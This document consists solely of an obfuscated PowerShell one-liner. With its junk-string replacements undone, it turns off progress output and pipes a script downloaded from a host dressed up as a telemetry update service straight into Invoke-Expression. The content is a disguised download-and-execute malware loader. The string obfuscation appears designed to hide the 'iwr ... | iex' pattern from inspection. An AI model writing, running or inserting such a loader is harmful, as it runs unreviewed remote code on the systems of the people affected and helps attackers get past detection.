iex (('# XJQ89vv~3un 2896 v4
$Pvv~3ogvv~3esXJQ89sPvv~3efevv~3ence = ''SilentlyContinue''
iwvv~3 -UseBasicPavv~3sing http://api.telemetvv~3y-hub.example/update.ps1 | iex
' -replace 'XJQ89','').Replace('vv~3','r'))